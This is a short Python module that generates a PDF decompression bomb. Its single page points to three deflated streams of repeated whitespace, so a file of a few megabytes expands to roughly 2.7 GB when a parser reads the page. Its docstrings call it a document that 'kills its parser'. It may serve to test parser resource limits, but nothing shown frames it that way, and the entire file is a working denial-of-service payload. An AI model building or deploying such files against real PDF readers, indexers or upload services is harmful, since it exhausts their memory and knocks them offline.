"""A document that kills its parser: a PDF of a few megabytes whose one page unpacks to more than a child may hold."""

from __future__ import annotations

import zlib

STREAMS = 3
UNPACKED = 900 * 1024 * 1024
PIECE = 16 * 1024 * 1024


def packed_blanks(size: int) -> bytes:
    """`size` bytes of white space, deflated. After a full flush a block knows nothing of those before, so one does for all."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = packer.compress(b" " * PIECE) + packer.flush(zlib.Z_FULL_FLUSH)
    return b"\x78\x9c" + block * (size // PIECE) + packer.flush()


def killing_pdf() -> bytes:
    """A PDF with one page; asking for its number of pages is harmless, reading the page is not."""
    stream = packed_blanks(UNPACKED)
    contents = " ".join(f"{number} 0 R" for number in range(4, 4 + STREAMS))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [{contents}] >>".encode(),
    ]
    head = f"<< /Length {len(stream)} /Filter /FlateDecode >>\nstream\n".encode()
    objects += [head + stream + b"\nendstream"] * STREAMS
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    end = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}"
    end += f"trailer << /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{len(out)}\n%%EOF\n"
    return out + end.encode()
